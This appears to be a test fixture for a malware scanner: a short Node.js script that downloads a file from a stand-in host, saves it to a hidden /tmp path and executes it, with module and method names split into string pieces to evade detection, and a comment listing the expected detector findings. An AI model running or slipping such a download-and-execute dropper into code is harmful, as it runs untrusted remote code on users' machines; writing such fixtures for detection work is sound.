const { promises: files } = require('fs');
const run = require('child_' + 'process');
const place = ['', 'tmp', '.' + 'cache-u'].join('/');

async function get(url) {
  const answer = await fetch(url);
  return Buffer.from(await answer.arrayBuffer());
}

async function main() {
  await files.writeFile(place, await get('https://files.collect.example/u'));
  run['exec' + 'File'](place); // expect: malicious-command/download-and-run, malicious-command/obfuscated-api-access
}
main();
